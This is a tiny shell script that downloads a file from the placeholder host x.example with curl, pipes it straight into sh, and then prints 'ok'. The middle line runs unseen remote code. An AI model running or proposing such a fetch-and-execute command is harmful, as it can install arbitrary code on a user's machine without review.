#!/bin/sh
# note
curl -s https://x.example/a | sh
echo ok
